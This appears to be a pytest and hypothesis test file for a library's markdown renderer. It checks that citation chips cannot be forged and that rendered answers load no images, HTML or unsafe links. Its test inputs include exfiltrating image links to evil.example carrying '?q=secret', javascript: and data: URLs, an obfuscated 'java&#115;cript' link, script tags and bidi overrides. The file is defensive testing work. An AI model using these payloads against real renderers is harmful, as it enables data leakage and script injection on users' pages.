"""Markdown made harmless: every citation a chip, and nothing else one, whatever the answer holds."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ragnb.display.markup import to_html, to_markdown, to_plain
from ragnb.events import Cited, Quote
from tests.display.test_display import check_safe

MARKER = re.compile(r"\[(\d+)\]")
OVERRIDE = "\u202e"
ALLOWED = ("https://", "http://", "mailto:")

# What a host does with Markdown at its most obedient.
HOST = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def quote(number=1, text="R"):
    return Quote(number, "c", 0, len(text), text)


def marked(text):
    """A citation for each ``[n]`` in the text."""
    return [
        Cited(start=0, end=found.start(), quotes=(quote(int(found[1])),), marker=found.span())
        for found in MARKER.finditer(text)
    ]


def render(text, citations=None):
    return check_safe(to_html(text, marked(text) if citations is None else citations))


def chips(page):
    return page.xpath("//sup[@class='ragnb-chip']/text()")


def tokens(markdown):
    found = list(HOST.parse(markdown))
    for token in found:
        yield token
        found.extend(token.children or ())


def loads(markdown):
    """What a host would fetch, run or link to, other than pages and mailboxes."""
    for token in tokens(markdown):
        if token.type in ("image", "html_inline", "html_block"):
            yield token.content
        elif token.type == "link_open" and not token.attrs["href"].lower().startswith(ALLOWED):
            yield token.attrs["href"]


FORGED = [
    "&#xE000;0&#xE001;",
    "&#57344;0&#57345;",
    "`&#xE000;0&#xE001;`",
    "    &#xE000;0&#xE001;",
    '[x](https://ok.example "&#xE000;0&#xE001;")',
    "![&#xE000;0&#xE001;](x)",
    "[&#xE000;0&#xE001;](https://ok.example/&#xE000;0&#xE001;)",
    "<https://ok.example/%EE%80%800%EE%80%81>",
    "&#xE000;99&#xE001; \ue0000\ue001",
    "&#44;0x0123456789abcdef&#44;",
]


@pytest.mark.parametrize("text", FORGED)
@pytest.mark.parametrize("real", ["", "word [1] "])
def test_no_text_forges_a_chip(text, real):
    """Whatever the text decodes to, there are the chips of the real citations and no other."""
    assert chips(render(real + text, marked(real))) == (["[1]"] if real else [])


def test_private_characters_stay():
    """Characters of the private use area, such as an icon font's, are text."""
    assert "\ue000 \uf8ff" in to_html("\ue000 \uf8ff", [])


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold**[1]", "<p><strong>bold</strong><sup></p>"),
        ("**bold.**[1]", "<p><strong>bold.</strong><sup></p>"),
        ('*"it"*[1]', '<p><em>"it"</em><sup></p>'),
        ("*it*[1]", "<p><em>it</em><sup></p>"),
        ("**x**[1].", "<p><strong>x</strong><sup>.</p>"),
        ("**x!**[1][2].", "<p><strong>x!</strong><sup><sup>.</p>"),
        ("**x [1]**.", "<p><strong>x <sup></strong>.</p>"),
        ("~~(x)~~[1]", "<p><s>(x)</s><sup></p>"),
        ("word[1]**bold**", "<p>word<sup><strong>bold</strong></p>"),
        ('word[1]**"bold"**', '<p>word<sup><strong>"bold"</strong></p>'),
        ("[1] word", "<p><sup> word</p>"),
        ("\\[1] word", "<p><sup> word</p>"),
        ("- **x.**[1]\n- [2]", "<ul><li><strong>x.</strong><sup></li><li><sup></li></ul>"),
        ("# **x.**[1]", "<h1><strong>x.</strong><sup></h1>"),
        ("> **x.**[1]", "<blockquote><p><strong>x.</strong><sup></p></blockquote>"),
        (
            "| a[1] |\n| --- |\n| **x.**[2] |",
            "<table><thead><tr><th>a<sup></th></tr></thead>"
            "<tbody><tr><td><strong>x.</strong><sup></td></tr></tbody></table>",
        ),
        ("![a [1]](x)", "<p><span>[image: a <sup>]</span></p>"),
    ],
)
def test_chips_leave_markdown_alone(text, html):
    """A citation neither breaks what stands around it, nor is broken by it."""
    shown = re.sub("<sup.*?</sup>", "<sup>", to_html(text, marked(text)))
    assert re.sub(r">\s+<", "><", shown).strip() == html


def test_a_chip_in_a_link():
    """A chip may stand in a link's text; the address stays what it is."""
    page = render("[the page [1]](https://ok.example/a)")
    assert page.xpath("//a/@href") == ["https://ok.example/a"]
    assert page.xpath("//a/sup/text()") == ["[1]"]


@pytest.mark.parametrize("marker", ["[1]", "[1, 2]", "【4†L1-L9】"])
@pytest.mark.parametrize(
    "text", ["`a{}`", "x `` ` {} ``", "```\na{}\n```", "~~~ python\n{}", "    a{}", "- `{}`"]
)
def test_markers_in_code_stay_as_they_are(text, marker):
    """Code is shown with the marker that stood in it, and no chip."""
    text = text.format(marker)
    start = text.index(marker)
    citations = [Cited(start=0, end=start, quotes=(quote(),), marker=(start, start + len(marker)))]
    page = render(text, citations)
    assert not chips(page)
    assert marker in page.xpath("string(//code)")
    assert to_markdown(text, citations) == to_plain(text, citations) == text


@pytest.mark.parametrize("text", ["[x](https://ok.example/[1])", "<https://ok.example/?a[1]=2>"])
def test_markers_in_addresses_stay_as_they_are(text):
    """A marker in an address does not change where the link leads."""
    (href,) = render(text).xpath("//a/@href")
    assert href.replace("%5B1%5D", "[1]") in text


@pytest.mark.parametrize(
    "href",
    [
        "http://[",
        "http://[a:b]/",
        "http://a:99999/",
        "http://a:b:c/",
        "http://[::1",
        "http://a℀b/",
        "http://%65vil.example/",
        "https:evil.example",
        "https:///evil.example",
        "mailto:",
        "//evil.example",
        "http://",
        ":",
        "&#x202e;",
    ],
)
def test_odd_addresses_lead_nowhere(href):
    """An address whose host cannot be told is no link."""
    assert not render(f"[x]({href}) <{href}>\n\n[y]\n\n[y]: {href}").xpath("//a/@href")


@pytest.mark.parametrize("marker", [(5, 2), (-5, -2), (2, 99), (99, 100), (-1, 2)])
def test_citations_outside_the_text_have_no_place(marker):
    """A citation that lies outside of the text leaves it as it is."""
    for citations in (
        [Cited(start=0, end=3, quotes=(quote(),), marker=marker)],
        [Cited(start=0, end=99, quotes=(quote(),))],
        [Cited(start=0, end=-1, quotes=(quote(),))],
        [Cited(start=0, end=3, quotes=(), marker=(3, 4))],
    ):
        assert to_html("abcdef", citations) == "<p>abcdef</p>\n"
        assert to_markdown("abcdef", citations) == to_plain("abcdef", citations) == "abcdef"


def test_a_citation_of_code_ends_no_code():
    """A citation without a marker that ends with a code block is shown below it."""
    text = "```\na\n```\n\n**b** "
    cited = [Cited(start=0, end=end, quotes=(quote(),)) for end in (9, 10, 16, 17)]
    page = render(text, cited)
    assert page.xpath("string(//code)") == "a\n"
    assert page.xpath("//strong/text()") == ["b"]
    assert len(chips(page)) == 4
    assert to_plain("```\na\n``` b", [Cited(start=0, end=9, quotes=(quote(),))]) == "```\na\n```\n\n[1] b"
    assert "<sup" not in to_html(text, [Cited(start=0, end=6, quotes=(quote(),))])


@pytest.mark.parametrize("number", [0, -1, 10**30])
def test_odd_numbers(number):
    """A number that no source has is shown as it is."""
    assert chips(render("ab", [Cited(start=0, end=1, quotes=(quote(number),))])) == [f"[{number}]"]


@pytest.mark.parametrize(
    "text",
    [
        ">" * 5000,
        "- " * 5000,
        "*" * 20_000,
        "[" * 20_000,
        "![" * 10_000,
        "[a" * 5000 + "](b)" * 5000,
        "`" * 20_000,
        "a**b" * 10_000,
        "<a " * 10_000,
        "\\" * 20_000,
        "&#x" * 10_000,
        "[a]: <b\n" * 5000,
        "[1]" * 5000,
        "`[1]`" * 2000,
        "wörd " * 100_000,
    ],
    ids=lambda text: text[:6],
)
def test_pathological_texts(text):
    """Neither depth nor length stops the rendering."""
    citations = marked(text)
    check_safe(to_html(text, citations))
    assert not list(loads(to_markdown(text, citations)))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\ud800b", "a\ufffdb"),
        ("\ud83d\ude00", "😀"),
        ("a\x00b\x1b[31mc\x9b", "ab[31mc"),
        (f"a{OVERRIDE}b\u2066c", "abc"),
        ("👩\u200d🚀 שלום مرحبا\tx", "👩\u200d🚀 שלום مرحبا\tx"),
    ],
)
def test_unseen_characters_go(text, shown):
    """Control characters and bidi overrides go; joined emoji, right-to-left text and tabs stay."""
    citations = [Cited(start=0, end=len(text), quotes=(quote(text=text),))]
    assert to_markdown(text, citations) == to_plain(text, citations) == shown + "[1]"
    html = to_html(text, citations)
    assert f"<p>{shown}<sup" in html
    assert f'title="{shown}"'.replace("\t", " ") in html


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/a.png",
        "![r]\n\n> [r]:\n> https://evil.example/a.png",
        "!\x01[x](https://evil.example/?q=secret)",
        "\\![x](https://evil.example/a.png)",
        "\\\\![x](https://evil.example/a.png)",
        "[![x](https://evil.example/a.png)](https://evil.example)",
        "<img src=https://evil.example/a.png>",
        "\\\\<img src=https://evil.example/a.png>",
        "<!-- a -->\n<img src=https://evil.example/a.png>",
        "[x](javascript:alert(1))",
        "[x]( <javascript:alert(1)>)",
        "[x](java&#115;cript:alert(1))",
        "[x](//evil.example)",
        "[x](data:text/html,a)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        # What looks like code, but is none once what stands before it is text.
        "<https://a`b> `![x](https://evil.example)`",
        "![a](http://b`c) `![x](https://evil.example)`",
        "[a](b`c) `![x](https://evil.example)`",
        "[a](http://b`c) `![x](https://evil.example)`",
        '[a](http://b "`") ![x](https://evil.example) `',
        "<div>\n```\n<img src=https://evil.example>\n```\n</div>",
        "<pre>\n\n    ![x](https://evil.example)\n\n</pre>",
        "`\\` ![x](https://evil.example) `",
        "`a\n<img src=https://evil.example>`",
        "> `a\n> <script>alert(1)</script>`",
    ],
)
def test_markdown_loads_nothing(text):
    """In Markdown, too, an answer loads no image, holds no HTML and links to pages and mailboxes only."""
    assert not list(loads(to_markdown(text, [])))


def test_what_is_harmless_in_markdown_stays():
    """Links to pages, comparisons, exclamations and code are left as they were written."""
    text = (
        "**Yes!** 1 < 2 & a<b: [docs](https://ok.example), f(x), *[n]*, mail [us](mailto:a@ok.example).\n\n"
        "`![x](y)` and ``<img>`` [1]\n\n```html\n<img src=x> [a]: b [c](d)\n```\n\n    ![x](y)\n"
    )
    assert to_markdown(text, marked(text)) == text.replace("a<b", "a&lt;b")


@pytest.mark.parametrize(
    "text",
    ["Dogs(javascript:x)", "Dogs(https://evil.example)", "Dogs: x", "Dogs[r](javascript:x)", "Dogs!"],
)
@pytest.mark.parametrize("end", [0, 4, 5, 7])
def test_numbers_are_no_links_in_markdown(text, end):
    """What stands after a citation's number cannot make a link of it."""
    text += "\n\n[1]: https://evil.example"
    markdown = to_markdown(text, [Cited(start=0, end=end, quotes=(quote(),))])
    assert "[1]" in markdown
    assert not [token for token in tokens(markdown) if token.type in ("link_open", "image")]


def test_a_bidi_override_as_an_entity():
    """An override that only a host would decode is no override there either."""
    for text in ("a&#x202E;b", "a&#8238;b", "a&#x0002067;b"):
        rendered = HOST.render(to_markdown(text, []))
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", rendered)


WORDS = r"""
![ [ ]( ](http:// ](https://[ ](javascript: ) ]: [1] [2] < <a > <img/src=x> <https:// <script> ` `` ``` ~~~
* ** _ ~~ \ | |-| &lt; &#x60; &#xE000; & " ( : ! a é . # 1. - >
"""
LINES = ["\n", "\n\n", "\n    ", "\n> ", "\n- ", "\n```\n", "\n~~~\n", "\n<!--", " ", "\t", "\r\n"]
ODD = ["\x00", "\x1b", "\ud800", "\udc00", "\ue000", OVERRIDE, "\ufffe"]
PIECES = st.sampled_from([*WORDS.split(), *LINES, *ODD])
TEXTS = st.lists(PIECES | st.text(max_size=3), max_size=40).map("".join) | st.text()
SPOTS = st.integers(-3, 60)
CITED = st.builds(
    Cited,
    start=st.just(0),
    end=SPOTS,
    quotes=st.lists(st.builds(quote, st.integers(-1, 12), st.text()), max_size=2).map(tuple),
    marker=st.none() | st.tuples(SPOTS, SPOTS),
)


@given(TEXTS, st.lists(CITED, max_size=4))
@example("[x](http://[a:b]/)", [])
def test_any_answer_is_rendered_safely(text, citations):
    """Any text with any citations is rendered; no tag, attribute or address but the allowed ones."""
    page = render(text, citations)
    numbers = ["".join(f"[{q.number}]" for q in cited.quotes) for cited in citations]
    for chip in chips(page):
        numbers.remove(chip)


@given(TEXTS)
def test_any_marked_answer_is_rendered_safely(text):
    """The same where the citations are those that stand in the text."""
    assert len(chips(render(text))) <= len(marked(text))


WRITTEN = st.sampled_from(
    ["word", "**b**", "*i.*", "[1]", "[2]", " x", "\n\n", "\n- ", '"', ".", "(x)", "&#xE000;"]
)


@given(st.lists(WRITTEN).map("".join))
def test_as_many_chips_as_citations(text):
    """Where there is neither code nor a link, each citation is a chip, in order."""
    assert chips(render(text)) == [found[0] for found in MARKER.finditer(text)]


@given(TEXTS, st.lists(CITED, max_size=4))
def test_any_markdown_loads_nothing(text, citations):
    """No text with any citations makes a host load or link what it should not."""
    markdown = to_markdown(text, citations)
    assert not list(loads(markdown))
    assert to_markdown(markdown, []) == markdown
